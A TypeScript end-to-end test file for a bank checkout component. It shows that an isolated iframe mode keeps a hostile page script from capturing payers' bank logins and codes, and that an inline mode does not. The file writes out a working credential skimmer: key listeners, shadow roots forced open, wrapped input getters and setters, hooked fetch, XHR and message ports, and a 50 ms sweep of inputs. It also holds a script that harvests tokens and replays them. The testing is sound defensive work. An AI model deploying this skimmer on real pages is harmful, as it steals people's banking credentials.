/**
 * Why the isolated mode exists, shown in the shop: a hostile script in the shop's page (key
 * listeners on the document, a MutationObserver over everything, `attachShadow` forced open and
 * watched, input value getters and setters wrapped, `fetch`, `XMLHttpRequest` and every message
 * listened to) runs while payers type their bank's credentials and codes. With the checkout
 * isolated it captures none of them; inline, in the same page, it captures them all. Once the
 * payer has signed in, whatever it finds in the page opens nothing of the bank session; a
 * credential it holds swapped for the launch token gets a checkout that refuses it; and the
 * frame's key, however it was taken, is useless without the frame's key pair.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import type { FrameLaunchAnswer } from '@bank-checkout/contract';
import { frameKeys, frameOrigin } from '../../packages/bff/test/frame-proof.js';
import {
  act,
  chooseFirstAccount,
  fillChallengeTestValues,
  orderCheckout,
  kit,
  merchantCheckout,
  openPage,
  readyChallenge,
  signIn,
  startStack,
  type Stack,
} from './lib.js';
import { opened } from '../support/opened.js';

let stack: Stack;
before(async () => {
  stack = await startStack();
});
after(async () => {
  await opened(stack)?.close();
});

/** What payers type at two banks (the simulator's test values): login, second login, validation code. */
const JOURNEYS = [
  { bankId: 'aurora', login: ['12345678Z', '135790'], secondLogin: null, code: '482913' },
  { bankId: 'levante', login: ['X1234567L', '246810'], secondLogin: '731904', code: null },
] as const;
const CANARIES: string[] = JOURNEYS.flatMap((j) => [...j.login, ...(j.secondLogin ? [j.secondLogin] : []), ...(j.code ? [j.code] : [])]);

/**
 * The hostile script, run first in the shop's page (not in other origins' frames: no script of
 * the page can run there). It keeps everything it sees in `window.__stolen`.
 */
function hostile(): void {
  if (window.top !== window || location.pathname.startsWith('/v1/')) return;
  const stolen: string[] = [];
  (window as unknown as { __stolen: string[] }).__stolen = stolen;
  let keys = '';
  const keep = (kind: string, value: unknown) => {
    try {
      stolen.push(`${kind}: ${typeof value === 'string' ? value : JSON.stringify(value)}`);
    } catch {
      stolen.push(`${kind}: (unreadable)`);
    }
  };
  const valueOf = (t: EventTarget | null | undefined) => (t && 'value' in t ? String(t.value) : null);
  const listen = (target: Document | ShadowRoot, where: string) => {
    for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'change', 'paste', 'submit', 'focusin']) {
      target.addEventListener(
        type,
        (e) => {
          if (e instanceof KeyboardEvent && type === 'keydown' && e.key.length === 1) keys += e.key;
          keep(`${where} ${type}`, [valueOf(e.composedPath()[0]), (e as InputEvent).data ?? null]);
        },
        true,
      );
    }
    new MutationObserver((records) => {
      for (const r of records)
        keep(`${where} mutation`, [r.target.nodeValue, valueOf(r.target), r.target instanceof Element ? r.target.outerHTML.slice(0, 4000) : null]);
    }).observe(target, { subtree: true, childList: true, attributes: true, characterData: true, characterDataOldValue: true, attributeOldValue: true });
  };
  listen(document, 'document');
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init: ShadowRootInit) {
    const root = attach.call(this, { ...init, mode: 'open' });
    listen(root, `shadow of ${this.localName}`);
    return root;
  };
  for (const proto of [HTMLInputElement.prototype, HTMLTextAreaElement.prototype]) {
    const d = Object.getOwnPropertyDescriptor(proto, 'value')!;
    Object.defineProperty(proto, 'value', {
      configurable: true,
      get(this: HTMLInputElement) {
        const v = d.get!.call(this);
        keep('value get', v);
        return v;
      },
      set(this: HTMLInputElement, v: string) {
        keep('value set', v);
        d.set!.call(this, v);
      },
    });
  }
  const realFetch = window.fetch;
  window.fetch = function (input: RequestInfo | URL, init?: RequestInit) {
    keep('fetch', [String(input instanceof Request ? input.url : input), typeof init?.body === 'string' ? init.body : null, init?.headers ?? null]);
    return realFetch.call(this, input, init).then((res) => {
      void res
        .clone()
        .text()
        .then((t) => keep('fetch answer', t));
      return res;
    });
  };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body?: Document | XMLHttpRequestBodyInit | null) {
    keep('xhr', typeof body === 'string' ? body : null);
    send.call(this, body);
  };
  window.addEventListener('message', (e) => keep('message', e.data), true);
  const portPost = MessagePort.prototype.postMessage;
  const ports: MessagePort[] = ((window as unknown as { __ports: MessagePort[] }).__ports = []);
  MessagePort.prototype.postMessage = function (this: MessagePort, message: unknown, transfer?: Transferable[] | StructuredSerializeOptions) {
    if (!ports.includes(this)) ports.push(this);
    keep('port out', message);
    portPost.call(this, message, transfer as StructuredSerializeOptions);
  } as MessagePort['postMessage'];
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage')!;
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    configurable: true,
    get: onmessage.get,
    set(this: MessagePort, fn: ((e: MessageEvent) => void) | null) {
      onmessage.set!.call(
        this,
        fn &&
          ((e: MessageEvent) => {
            keep('port in', e.data);
            fn.call(this, e);
          }),
      );
    },
  });
  // And a sweep every 50 ms over every input it can reach (open shadow roots included).
  const sweep = (root: Document | ShadowRoot) => {
    for (const el of root.querySelectorAll('*')) {
      if (el instanceof HTMLInputElement && el.value) keep('sweep', el.value);
      if (el.shadowRoot) sweep(el.shadowRoot);
    }
  };
  setInterval(() => {
    sweep(document);
    keep('keys', keys);
  }, 50);
}

/** Pays one journey by typing, in the checkout under `root` (the frame's document, or the page's). */
async function payByTyping(page: Page, root: Locator, j: (typeof JOURNEYS)[number]): Promise<string> {
  await root.locator(`bank-selector [role=option]#bank-${j.bankId}`).click();
  const fields = root.locator('bank-login-form input:not([type=radio])');
  for (const [i, value] of j.login.entries()) await fields.nth(i).pressSequentially(value);
  let view = await act(page, stack, () => root.locator('bank-login-form').getByRole('button', { name: 'Sign in' }).click());
  if (j.secondLogin) {
    await root.locator('bank-second-login input').pressSequentially(j.secondLogin);
    view = await act(page, stack, () => root.locator('bank-second-login [part=submit]').click());
  }
  assert.equal(view.state, 'select-account');
  const pay = await chooseFirstAccount(page, root);
  view = await act(page, stack, () => pay.click());
  assert.equal(view.state, 'validate');
  if (j.code) await root.locator('bank-challenge input').pressSequentially(j.code);
  else await fillChallengeTestValues(page, root);
  const confirm = await readyChallenge(page, root);
  view = await act(page, stack, () => confirm.click());
  return view.state;
}

describe('a hostile script in the shop page', () => {
  for (const inline of [false, true]) {
    it(
      inline
        ? 'captures every credential and code typed into the inline checkout (why the isolated mode exists)'
        : 'captures none of the credentials and codes typed into the isolated checkout',
      async () => {
        const { page, assertClean, addInitScript, close } = await openPage(stack);
        // As a page's own script: the function's text (with the helper the TypeScript loader names functions by).
        await addInitScript(`var __name = (f) => f; (${hostile.toString()})();`);
        for (const j of JOURNEYS) {
          const id = await orderCheckout(page, stack, 'native', { inline });
          const root = inline ? page.locator(':root') : kit(page).locator(':root');
          assert.equal(await payByTyping(page, root, j), 'succeeded');
          assert.equal((await merchantCheckout(stack, id)).state, 'succeeded');
          const stolen = await page.evaluate(() => (window as unknown as { __stolen: string[] }).__stolen.join('\n'));
          assert.ok(stolen.length > 1000, 'the script ran and saw the page');
          const seen = CANARIES.filter((c) => stolen.includes(c));
          const typedHere = ([...j.login, j.secondLogin, j.code] as (string | null)[]).filter((c): c is string => !!c);
          if (inline)
            assert.deepEqual(
              typedHere.filter((c) => !seen.includes(c)),
              [],
              'inline, the script sees every value typed',
            );
          else assert.deepEqual(seen, [], 'isolated, the script sees none');
        }
        assertClean();
        await close();
      },
    );
  }
});

/**
 * The hostile script's second move, once the payer has signed in inside the frame: everything
 * it can find in the page (every attribute of every element, open shadow roots included, and
 * anything shaped like a credential among what it captured) tried against the BFF from the
 * page's origin, as a checkout credential and as a launch token; a second `init` to the frame
 * and through every port it saw; and a frame of its own given the launch token. Answers what
 * came back.
 */
async function attack(bff: string): Promise<{ what: string; status: number; body: string }[]> {
  const found = new Set<string>();
  const walk = (root: Document | ShadowRoot) => {
    for (const el of root.querySelectorAll('*')) {
      for (const a of el.getAttributeNames()) {
        const v = el.getAttribute(a) ?? '';
        if (v.length >= 16 && !/^https?:/.test(v)) found.add(v);
      }
      if (el.shadowRoot) walk(el.shadowRoot);
    }
  };
  walk(document);
  const stolen = (window as unknown as { __stolen: string[] }).__stolen.join('\n');
  for (const m of stolen.matchAll(/\b(?:lt|fk|cs)_[\w.-]{16,}/g)) found.add(m[0]);
  // What looks like a credential first (the page's own guard counts wrong ones per address).
  const likely = (v: string) => Number(/^(lt|fk|cs)_/.test(v));
  const candidates = [...found].sort((a, b) => likely(b) - likely(a)).slice(0, 8);
  const results: { what: string; status: number; body: string }[] = [];
  const attempt = async (what: string, url: string, init?: RequestInit) => {
    try {
      const res = await fetch(url, init);
      results.push({ what, status: res.status, body: await res.text() });
    } catch (err) {
      results.push({ what, status: 0, body: String(err) });
    }
  };
  for (const c of candidates) {
    for (const path of ['/v1/checkout', '/v1/banks'])
      await attempt(`GET ${path} with ${c.slice(0, 8)}…`, `${bff}${path}`, { headers: { 'X-Checkout-Secret': c } });
    await attempt(`redeem ${c.slice(0, 8)}…`, `${bff}/v1/frame/launch`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ token: c }),
    });
  }
  const host = document.querySelector('bank-checkout')!;
  const frame = host.shadowRoot!.querySelector('iframe')!;
  for (const c of candidates) {
    const channel = new MessageChannel();
    channel.port1.onmessage = (e) => results.push({ what: 'frame answered a second init', status: 200, body: JSON.stringify(e.data) });
    frame.contentWindow!.postMessage({ v: 1, type: 'init', token: c }, '*', [channel.port2]);
  }
  for (const port of (window as unknown as { __ports: MessagePort[] }).__ports) {
    port.postMessage({ v: 1, type: 'init', token: candidates[0] ?? 'x' });
    port.postMessage({ v: 1, type: 'focus' });
  }
  return results;
}

describe('a hostile script that waits for the payer to sign in', () => {
  it('reads nothing of the bank session with whatever it finds in the page, and the payer pays on', async () => {
    const { page, assertClean, addInitScript, close } = await openPage(stack);
    await addInitScript(`var __name = (f) => f; (${hostile.toString()})();`);
    const id = await orderCheckout(page, stack, 'native');
    const ui = kit(page);
    const j = JOURNEYS[0];
    await ui.locator(`bank-selector [role=option]#bank-${j.bankId}`).click();
    const fields = ui.locator('bank-login-form input:not([type=radio])');
    for (const [i, value] of j.login.entries()) await fields.nth(i).pressSequentially(value);
    const signedIn = await act(page, stack, () => ui.locator('bank-login-form').getByRole('button', { name: 'Sign in' }).click());
    assert.equal(signedIn.state, 'select-account');
    // The bank session: the accounts the payer's bank listed, as the frame shows them.
    const accounts = signedIn.step.state === 'select-account' ? signedIn.step.accounts.map((a) => a.info) : [];
    assert.ok(accounts.length > 0);

    // As a page's own script: the function's text (with the helper the TypeScript loader names functions by).
    const results = await page.evaluate<Awaited<ReturnType<typeof attack>>>(`var __name = (f) => f; (${attack.toString()})(${JSON.stringify(stack.urls.bff)})`);
    assert.ok(results.length >= 6, `the script tried what it found: ${results.map((r) => r.what).join(', ')}`);
    assert.ok(
      results.some((r) => r.what.startsWith('redeem lt_')),
      'the launch token was among what it found',
    );
    for (const r of results) {
      assert.notEqual(r.status, 200, `${r.what} answered ${r.body.slice(0, 200)}`);
      for (const a of accounts) assert.ok(!r.body.includes(a), `${r.what} showed an account`);
    }
    // No redemption from the page's origin: the browser does not even send it (no CORS for it), or the BFF says 403.
    assert.ok(
      results.filter((r) => r.what.startsWith('redeem')).every((r) => r.status === 0 || r.status === 403),
      JSON.stringify(results.filter((r) => r.what.startsWith('redeem'))),
    );

    // The payer goes on in the frame, undisturbed.
    const pay = await chooseFirstAccount(page);
    assert.equal((await act(page, stack, () => pay.click())).state, 'validate');
    await ui.locator('bank-challenge input').pressSequentially(j.code);
    const confirm = await readyChallenge(page);
    assert.equal((await act(page, stack, () => confirm.click())).state, 'succeeded');
    assert.equal((await merchantCheckout(stack, id)).state, 'succeeded');

    const stolen = await page.evaluate(() => (window as unknown as { __stolen: string[] }).__stolen.join('\n'));
    assert.deepEqual(
      CANARIES.filter((c) => stolen.includes(c)),
      [],
      'no password or code',
    );
    assert.deepEqual(
      accounts.filter((a) => stolen.includes(a)),
      [],
      'no account',
    );
    const refused = (await merchantCheckout(stack, id)) as { launch?: { refusals: number } };
    assert.equal(refused.launch?.refusals, 0, 'the launch token was never presented again at the BFF');
    // What the browser logs of the script's refused calls.
    assertClean([
      /Failed to load resource: the server responded with a status of (401|403)/,
      /blocked by CORS policy/,
      /Failed to load resource: net::ERR_FAILED/,
    ]);
    await close();
  });
});

describe('a hostile script that swaps the launch token for a credential it holds', () => {
  it('gets a checkout that refuses it: an inline checkout’s client secret, given to the element or straight to the frame, runs nothing', async () => {
    const { page, assertClean, close } = await openPage(stack);
    // The script's credential: an inline checkout of the same cart, which the shop makes for its page (the demonstration of the weaker mode).
    const inlineId = await orderCheckout(page, stack, 'native', { inline: true });
    const secret = await page.locator('bank-checkout').getAttribute('checkout-secret');
    assert.match(secret ?? '', /^cs_/);
    const id = await orderCheckout(page, stack, 'native');
    const sentSecret: string[] = [];
    page.on('request', (r) => {
      if (r.headers()['x-checkout-secret'] === secret) sentSecret.push(r.url());
    });
    // Before the frame has redeemed anything: the script answers the frame's `ready` first, with the secret.
    const seen = await page.evaluate(async (held) => {
      const host = document.querySelector('bank-checkout')!;
      const errors: unknown[] = [];
      const refused = new Promise<void>((resolve) =>
        host.addEventListener('bank-checkout-error', (e) => {
          errors.push((e as CustomEvent).detail);
          resolve();
        }),
      );
      host.removeAttribute('launch-token');
      host.setAttribute('checkout-secret', held);
      await refused;
      return { errors, frame: !!host.shadowRoot!.querySelector('iframe'), said: host.shadowRoot!.querySelector('[part=failure]')?.getAttribute('role') };
    }, secret!);
    assert.deepEqual(seen.errors, [{ checkoutId: null, code: 'secret_refused', status: null, requestId: null }]);
    assert.equal(seen.frame, false, 'no frame runs it');
    assert.equal(seen.said, 'alert', 'the payer is told the payment cannot be shown here');

    // A frame of the script's own (the BFF's frame page), given the secret in an init of its own.
    const told = await page.evaluate(
      async ([bff, held]) => {
        const frame = document.createElement('iframe');
        frame.src = `${bff}/v1/frame`;
        document.body.append(frame);
        const channel = new MessageChannel();
        const answers: unknown[] = [];
        const told = new Promise<void>((resolve) => {
          channel.port1.onmessage = (e) => {
            answers.push(e.data);
            if ((e.data as { type?: string }).type === 'event') resolve();
          };
        });
        await new Promise<void>((resolve) =>
          window.addEventListener('message', (e) => {
            if (e.source !== frame.contentWindow) return;
            frame.contentWindow!.postMessage({ v: 1, type: 'init', secret: held }, bff, [channel.port2]);
            resolve();
          }),
        );
        await told;
        return answers.filter((a) => (a as { type?: string }).type === 'event');
      },
      [stack.urls.bff, secret!] as const,
    );
    assert.deepEqual(told, [
      { v: 1, type: 'event', name: 'bank-checkout-error', detail: { checkoutId: null, code: 'secret_refused', status: null, requestId: null } },
    ]);
    // The element's own frame is gone (it refused the secret): the one left is the script's.
    const frames = page.frames().filter((f) => f.url() === `${stack.urls.bff}/v1/frame`);
    assert.equal(frames.length, 1);
    const ownFrame = frames[0]!;
    assert.equal(await ownFrame.locator('[role=alert]').textContent(), 'This payment link is not valid.');
    assert.equal(await ownFrame.locator('bank-checkout').count(), 0, 'no checkout runs in it');

    assert.deepEqual(sentSecret, [], 'the secret never reached the BFF from a frame');
    // The shop cancelled the inline checkout when the isolated order of the same cart took its place (one open checkout a payer); nothing ran on it.
    assert.equal((await merchantCheckout(stack, inlineId)).state, 'cancelled', 'the inline checkout cancelled by the shop, never run');
    assert.equal((await merchantCheckout(stack, id)).state, 'select-bank');
    assertClean([/launch token only/, /refused a client secret/]);
    await close();
  });

  it('the frame’s key, however taken, opens nothing without the frame’s key pair; a launch token swapped for it is refused', async () => {
    const { page, assertClean, close } = await openPage(stack);
    // Taken off the wire (as no script of the page can): the redemption's answer, and a proof the frame sent.
    const answered = page.waitForResponse((r) => r.url() === `${stack.urls.bff}/v1/frame/launch`);
    const id = await orderCheckout(page, stack, 'native');
    const { key } = (await (await answered).json()) as FrameLaunchAnswer;
    const signing = page.waitForRequest((r) => r.url() === `${stack.urls.bff}/v1/checkout/login`);
    const view = await signIn(page, stack, 'aurora');
    assert.equal(view.state, 'select-account');
    const seenProof = (await signing).headers()['dpop'];
    assert.ok(seenProof);

    const read = (headers: Record<string, string>) =>
      fetch(`${stack.urls.bff}/v1/checkout`, { headers: { 'X-Checkout-Secret': key, ...frameOrigin(stack.urls.bff), ...headers } });
    const other = await frameKeys();
    const attempts: [string, Response][] = [
      ['no proof', await read({})],
      ['a proof of another key pair', await read({ DPoP: await other.prove('GET', `${stack.urls.bff}/v1/checkout`, key) })],
      ['the frame’s own proof, seen on the wire, for another call', await read({ DPoP: seenProof })],
    ];
    for (const [what, res] of attempts) {
      const text = await res.text();
      assert.equal(res.status, 401, `${what}: ${res.status} ${text.slice(0, 200)}`);
      assert.ok(!text.includes('AUR-'), `${what} showed nothing of the accounts`);
    }

    // Swapped for the page's launch token, the key gets a frame that cannot open the checkout.
    const refused = page.waitForResponse((r) => r.url() === `${stack.urls.bff}/v1/frame/launch`);
    await page.locator('bank-checkout').evaluate((el, k) => el.setAttribute('launch-token', k), key);
    assert.equal((await refused).status(), 401);
    await kit(page).locator('[role=alert]').getByText('This payment link is not valid.').waitFor();
    assert.equal((await merchantCheckout(stack, id)).state, 'select-account', 'the payer’s bank session goes on, untouched');
    assertClean([/status of 401/]);
    await close();
  });
});
